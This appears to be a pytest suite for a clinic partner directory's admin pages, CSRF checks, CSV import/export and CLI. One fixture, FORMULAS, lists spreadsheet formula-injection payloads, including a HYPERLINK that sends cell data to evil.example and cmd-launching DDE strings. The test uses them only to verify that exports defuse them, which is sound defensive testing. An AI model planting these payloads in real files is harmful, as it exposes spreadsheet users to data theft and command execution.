"""The admin's HTML pages and the CSV import/export, over HTTP and through the ``handoff`` CLI,
on a real database and Redis."""

from __future__ import annotations

import csv
import re
import threading
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from litestar.testing import TestClient

from services import cli
from services.directory import csv_io
from shared.auth import Staff, issue_staff_token
from shared.config import Settings
from shared.web import STAFF_COOKIE
from tests.support.directory import (
    ADMIN,
    FORM,
    GOOD_CSV,
    PARTNER,
    SECRET,
    backdate,
    count_rows,
    create,
    published,
)
from tests.support.pages import assert_accessible, structure

THREE_BAD_CSV = (
    "name,category,email,phone,postal_code,npi\n"
    "Bay Physical Therapy,physical_therapy,intake@baypt.example,,33701,\n"
    "Astro,astrology,a@astro.example,,33701,\n"
    "No Mail,dietitian,not-an-email,,33701,\n"
    "Good Dietitian,dietitian,good@diet.example,,33701,\n"
    "Bad NPI,neurology,n@neuro.example,,33701,1234567890\n"
)


def staff_cookie(role: str) -> str:
    staff = Staff(id=f"{role}-1", email=f"{role}@clinic.example", role=role)  # type: ignore[arg-type]
    return issue_staff_token(key=SECRET, staff=staff, ttl=timedelta(hours=1))


@pytest.fixture
def admin(client: TestClient) -> TestClient:
    client.cookies.set(STAFF_COOKIE, staff_cookie("admin"))
    return client


def csrf(page) -> str:
    return re.search(r'name="_csrf_token" value="([^"]+)"', page.text).group(1)


def post_form(client: TestClient, get_path: str, post_path: str, fields: dict) -> object:
    page = client.get(get_path)
    assert page.status_code == 200, page.text
    return client.post(post_path, data={"_csrf_token": csrf(page), **fields}, follow_redirects=False)


# --- who may see the admin pages -----------------------------------------------------------------


def test_admin_pages_send_strangers_to_the_referrals_login_and_refuse_therapists(
    client: TestClient,
    settings: Settings,
) -> None:
    response = client.get("/admin/partners", follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith(f"{settings.public_url('referrals')}/login?next=")
    client.cookies.set(STAFF_COOKIE, "forged")
    assert client.get("/admin/partners", follow_redirects=False).status_code == 303
    client.cookies.set(STAFF_COOKIE, staff_cookie("therapist"))
    assert client.get("/admin/partners", follow_redirects=False).status_code == 403
    # The cookie never opens the JSON API (that would invite cross-site requests).
    client.cookies.set(STAFF_COOKIE, staff_cookie("admin"))
    assert client.post("/api/v1/partners", json=PARTNER).status_code == 401


# --- create, edit, pause, archive --------------------------------------------------------------


def test_an_admin_creates_edits_and_archives_through_the_pages(admin: TestClient, settings: Settings) -> None:
    created = post_form(admin, "/admin/partners/new", "/admin/partners/new", FORM)
    assert created.status_code == 303, created.text
    edit_url = created.headers["location"].split("?")[0]
    page = admin.get(created.headers["location"])
    assert "Partner added." in page.text and 'value="+17275550100"' in page.text
    assert_accessible(structure(page.text))
    assert "/logout" in page.text

    saved = post_form(admin, edit_url, edit_url, {**FORM, "version": "1", "name": "Bay PT"})
    assert saved.status_code == 303
    stale = post_form(admin, edit_url, edit_url, {**FORM, "version": "1", "name": "Bay Physio"})
    assert stale.status_code == 409
    assert "Someone else changed this partner" in stale.text and 'value="Bay PT"' in stale.text

    paused = post_form(admin, edit_url, f"{edit_url}/status", {"version": "2", "status": "paused"})
    assert paused.status_code == 303
    # Archiving is final, so it is asked first (issue 13): nothing changes until it is confirmed.
    asked = post_form(admin, edit_url, f"{edit_url}/status", {"version": "3", "status": "archived"})
    assert asked.status_code == 200 and "Archive Bay PT?" in asked.text and "Archiving is final" in asked.text
    assert_accessible(structure(asked.text))
    archived = post_form(
        admin, edit_url, f"{edit_url}/status", {"version": "3", "status": "archived", "confirm": "yes"}
    )
    assert archived.status_code == 303
    final = admin.get(edit_url).text
    assert "archived" in final and "Activate" not in final

    listing = admin.get("/admin/partners", params={"status": "archived"})
    assert "Bay PT" in listing.text
    assert "Bay PT" not in admin.get("/admin/partners", params={"status": "active"}).text
    assert_accessible(structure(listing.text))
    versions = [(m.version, m.partner.status) for m in published(settings.redis_url, expected=4)]
    assert versions == [(1, "active"), (2, "active"), (3, "paused"), (4, "archived")]


def test_a_bad_form_is_shown_again_naming_the_field(admin: TestClient, settings: Settings) -> None:
    response = post_form(admin, "/admin/partners/new", "/admin/partners/new", {**FORM, "npi": "1234567890"})

    assert response.status_code == 422
    assert 'id="e-npi"' in response.text and 'aria-invalid="true"' in response.text
    assert 'value="Bay Physical Therapy"' in response.text  # what was typed is kept
    assert count_rows(settings.directory_db_url) == (0, 0)


def test_every_form_needs_its_csrf_token(admin: TestClient, settings: Settings) -> None:
    admin.get("/admin/partners/new")
    assert admin.post("/admin/partners/new", data=FORM, follow_redirects=False).status_code == 403
    assert admin.post("/admin/partners/new", data={**FORM, "_csrf_token": "forged"}).status_code == 403
    assert count_rows(settings.directory_db_url) == (0, 0)


def test_the_admin_pages_show_dates_in_the_clinics_time(admin: TestClient, settings: Settings) -> None:
    # 7:19 PM UTC on December 1 is 2:19 PM in New York, the clinic's zone (the default).
    assert settings.clinic_timezone == "America/New_York"
    partner = create(admin, license_number="PT12345", license_state="FL", licence_expires_on="2024-03-01")
    backdate(settings.directory_db_url, partner_id=partner["id"], at=datetime(2026, 12, 1, 19, 19, tzinfo=UTC))

    page = admin.get(f"/admin/partners/{partner['id']}").text

    # The year is named only when it is not this one.
    instant = r"Tue, Dec 1(, 2026)?, 2:19 PM EST"
    assert re.search(rf"confirmed by the practice on {instant}", page), page
    assert re.search(rf"<td>{instant}</td>", page), "the history is not in the clinic's time"
    assert "UTC" not in page and "2026-12-01" not in page
    assert "Licence expired March 1, 2024" in page
    assert "Licence expired March 1, 2024" in admin.get("/admin/partners").text
    assert_accessible(structure(page))


# --- CSV import and export -----------------------------------------------------------------------


def test_a_file_with_three_bad_rows_reports_all_three_and_imports_nothing(
    client: TestClient,
    settings: Settings,
) -> None:
    response = client.post(
        "/api/v1/partners/import", content=THREE_BAD_CSV, headers={**ADMIN, "Content-Type": "text/csv"}
    )

    assert response.status_code == 422, response.text
    errors = response.json()["extra"]["errors"]
    assert [(e["line"], e["column"]) for e in errors] == [(3, "category"), (4, "email"), (6, "npi")]
    assert all(e["reason"] for e in errors)
    assert count_rows(settings.directory_db_url) == (0, 0)

    skipping = client.post(
        "/api/v1/partners/import",
        params={"skip_invalid": "true"},
        content=THREE_BAD_CSV,
        headers={**ADMIN, "Content-Type": "text/csv"},
    )
    assert skipping.status_code == 200
    assert (skipping.json()["created"], skipping.json()["skipped"]) == (2, 3)


def test_the_same_file_twice_imports_once_and_an_edit_updates_in_place(client: TestClient, settings: Settings) -> None:
    def upload(text: str) -> dict:
        response = client.post("/api/v1/partners/import", files={"file": ("p.csv", text, "text/csv")}, headers=ADMIN)
        assert response.status_code == 200, response.text
        return response.json()

    assert upload(GOOD_CSV)["created"] == 3
    again = upload(GOOD_CSV)
    assert (again["created"], again["updated"], again["unchanged"]) == (0, 0, 3)
    # Three partners; their changes travel in one outbox row (one message), and the second
    # import staged none.
    assert count_rows(settings.directory_db_url) == (3, 1)

    # The NPI is the key: a renamed partner with the same NPI is updated, not duplicated.
    renamed = GOOD_CSV.replace("Bay Physical Therapy,", "Bay PT,").replace("727-555-0100", "727-555-0199")
    assert (upload(renamed)["created"], upload(renamed)["unchanged"]) == (0, 3)
    items = client.get("/api/v1/partners", params={"q": "bay"}).json()["items"]
    assert [(i["name"], i["phone"], i["version"]) for i in items] == [("Bay PT", "+17275550199", 2)]
    assert items[0]["location"] is not None  # geocoded from its ZIP code, offline


def test_export_then_import_changes_nothing(client: TestClient, settings: Settings) -> None:
    create(client, bio='Says "hi",\nthen leaves.', specialties=["knees", "backs"], npi="1245319599", listed=False)
    create(client, name="Paused Chiro", category="chiropractic", status="paused")

    exported = client.get("/api/v1/partners/export", headers=ADMIN)
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    assert client.get("/api/v1/partners/export").status_code == 401

    response = client.post(
        "/api/v1/partners/import", content=exported.text, headers={**ADMIN, "Content-Type": "text/csv"}
    )
    assert response.json() == {"created": 0, "updated": 0, "unchanged": 2, "skipped": 0, "errors": []}


def test_an_in_file_repeat_and_a_bad_header_are_reported(client: TestClient) -> None:
    repeated = GOOD_CSV + "Bay Physical Therapy,physical_therapy,other@baypt.example,,33701,,\n"
    response = client.post("/api/v1/partners/import", content=repeated, headers={**ADMIN, "Content-Type": "text/csv"})
    assert response.status_code == 422
    assert [(e["line"], e["column"]) for e in response.json()["extra"]["errors"]] == [(5, "name")]
    header = client.post(
        "/api/v1/partners/import", content="nom,email\n", headers={**ADMIN, "Content-Type": "text/csv"}
    )
    assert header.status_code == 422 and header.json()["extra"]["key"] == "header"
    assert client.post("/api/v1/partners/import", content=GOOD_CSV).status_code == 401


def test_the_admin_page_imports_and_exports(admin: TestClient) -> None:
    page = admin.get("/admin/partners/import")
    response = admin.post(
        "/admin/partners/import", data={"_csrf_token": csrf(page)}, files={"file": ("p.csv", THREE_BAD_CSV, "text/csv")}
    )
    assert response.status_code == 422
    assert "Line 3, column category" in response.text and "nothing was imported" in response.text
    exported = admin.get("/admin/partners/export.csv")
    assert exported.status_code == 200 and exported.text.startswith("name,credentials,category")


# What the adversarial review exported verbatim (issue 16, item 1): each would run as a formula in
# a spreadsheet. Plain numbers (a phone, a longitude) are no formula and stay as they are.
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "credentials": "=2+5",
    "practice": "+cmd|' /C calc'!A0",
    "hours": "-2+3+cmd|' /C calc'!A0",
    "bio": "@SUM(1+1)",
}


def test_the_export_defuses_formulas_and_an_import_of_it_restores_them(
    client: TestClient,
    admin: TestClient,
) -> None:
    create(client, **FORMULAS)
    # A leading TAB is trimmed on input, so this partner's name is stored as "=1+2".
    tabbed = "name,category,email,specialties\n\t=1+2,dietitian,tab@diet.example,\t=3+4; knees\n"
    imported = client.post("/api/v1/partners/import", content=tabbed, headers={**ADMIN, "Content-Type": "text/csv"})
    assert imported.status_code == 200, imported.text

    api = client.get("/api/v1/partners/export", headers=ADMIN)
    page = admin.get("/admin/partners/export.csv")
    for exported in (api, page):
        assert exported.status_code == 200
        rows = {row["email"]: row for row in csv.DictReader(exported.text.splitlines())}
        cells = [value for row in rows.values() for value in row.values()]
        assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r")]
        assert all(re.fullmatch(r"[+-][0-9.]+", cell) for cell in cells if cell[:1] in ("+", "-")), cells
        attacker = rows[PARTNER["email"]]
        assert {name: attacker[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
        assert (rows["tab@diet.example"]["name"], rows["tab@diet.example"]["specialties"]) == ("'=1+2", "'=3+4; knees")
        assert attacker["phone"] == PARTNER["phone"] and attacker["lon"] == str(PARTNER["location"]["lon"])

    again = client.post("/api/v1/partners/import", content=api.text, headers={**ADMIN, "Content-Type": "text/csv"})
    assert again.json() == {"created": 0, "updated": 0, "unchanged": 2, "skipped": 0, "errors": []}
    stored = client.get("/api/v1/partners", params={"q": "hyperlink"}, headers=ADMIN).json()["items"]
    assert [(p["name"], p["credentials"], p["practice"]) for p in stored] == [
        (FORMULAS["name"], FORMULAS["credentials"], FORMULAS["practice"])
    ]


def bad_rows(count: int) -> str:
    """A CSV file of ``count`` rows, each with an unknown category."""
    return "name,category,email\n" + "".join(f"P{n},astrology,p{n}@x.example\n" for n in range(count))


def test_an_import_report_stops_at_100_errors_and_says_how_many_more(
    client: TestClient,
    admin: TestClient,
) -> None:
    """Issue 16, item 10: 200,000 bad rows once made a 52.9 MB answer."""
    answer = client.post(
        "/api/v1/partners/import", content=bad_rows(250), headers={**ADMIN, "Content-Type": "text/csv"}
    )
    assert answer.status_code == 422
    body = answer.json()
    assert body["detail"].startswith("250 row(s) cannot be imported")
    assert len(body["extra"]["errors"]) == 100 and body["extra"]["more_errors"] == 150
    assert (body["extra"]["errors"][0]["line"], body["extra"]["errors"][0]["column"]) == (2, "category")
    page = admin.post(
        "/admin/partners/import",
        data={"_csrf_token": csrf(admin.get("/admin/partners/import"))},
        files={"file": ("p.csv", bad_rows(250), "text/csv")},
    )
    assert page.status_code == 422
    assert page.text.count("<li>Line ") == 100 and "and 150 more" in page.text and "250 row(s)" in page.text


def test_the_public_page_answers_while_a_large_import_is_read(
    client: TestClient,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Issue 16, item 10: the public page waited 17.8 s for an import to be read. The rows read so
    far are counted as the import reads them: the page must answer before the last one."""
    rows = 40_000
    read: list[int] = []
    reading = threading.Event()
    original = csv_io.read_rows

    def counted(text: str):  # the real parser, with a count beside it
        for row in original(text):
            read.append(row.line)
            reading.set()
            yield row

    monkeypatch.setattr(csv_io, "read_rows", counted)
    answers: dict[str, object] = {}

    def send() -> None:
        headers = {**ADMIN, "Content-Type": "text/csv"}
        answers["import"] = client.post("/api/v1/partners/import", content=bad_rows(rows), headers=headers)

    importing = threading.Thread(target=send)
    importing.start()
    assert reading.wait(timeout=120), "the import never started reading"
    page = client.get("/partners-in-health")
    read_by_then = len(read)
    importing.join(timeout=300)
    assert page.status_code == 200 and answers["import"].status_code == 422  # type: ignore[attr-defined]
    assert read_by_then < rows, "the page waited for the whole file to be read"


# --- the CLI ---------------------------------------------------------------------------------------


@pytest.fixture
def cli_env(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> Settings:
    for name in ("directory_db_url", "redis_url", "secret_key", "data_dir"):
        monkeypatch.setenv(f"HANDOFF_{name.upper()}", str(getattr(settings, name)))
    return settings


def test_cli_import_reports_bad_rows_then_imports_once(
    cli_env: Settings, tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    bad, good = tmp_path / "bad.csv", tmp_path / "good.csv"
    bad.write_text(THREE_BAD_CSV)
    good.write_text(GOOD_CSV)

    assert cli.main(["partners", "import", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "line 3, column category" in err and "line 4, column email" in err and "line 6, column npi" in err
    assert count_rows(cli_env.directory_db_url) == (0, 0)

    assert cli.main(["partners", "import", str(good)]) == 0
    assert cli.main(["partners", "import", str(good)]) == 0
    assert "0 created, 0 updated, 3 unchanged" in capsys.readouterr().out
    assert cli.main(["partners", "import", "--skip-invalid", str(bad)]) == 0
    # Bay Physical Therapy (same name and ZIP code) was updated, Good Dietitian added.
    assert count_rows(cli_env.directory_db_url)[0] == 4
    # Every change (3 created, 1 updated, 1 created) was handed to Redis by the command itself.
    published(cli_env.redis_url, expected=5)


def test_cli_seed_export_and_republish(cli_env: Settings, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    from shared import categories

    assert cli.main(["seed", "--demo"]) == 0
    assert cli.main(["seed", "--demo"]) == 0
    out = capsys.readouterr().out
    assert "40 created" in out and "0 created, 0 updated, 40 unchanged" in out

    target = tmp_path / "all.csv"
    assert cli.main(["partners", "export", str(target)]) == 0
    rows = list(csv.DictReader(target.open(newline="")))
    assert len(rows) == 40
    assert {row["category"] for row in rows} == set(categories.load())
    # Clearly fictional: .example addresses, 555-01xx phone numbers.
    assert all(row["email"].endswith(".example") and row["website"].endswith(".example") for row in rows)
    assert all(row["phone"].startswith("+1727555") and 100 <= int(row["phone"][-4:]) <= 199 for row in rows)
    assert all(row["city"] and row["lat"] and row["lon"] for row in rows)

    assert cli.main(["partners", "republish"]) == 0
    messages = published(cli_env.redis_url, expected=80)
    assert {m.version for m in messages} == {1}
    assert len({m.partner.id for m in messages}) == 40
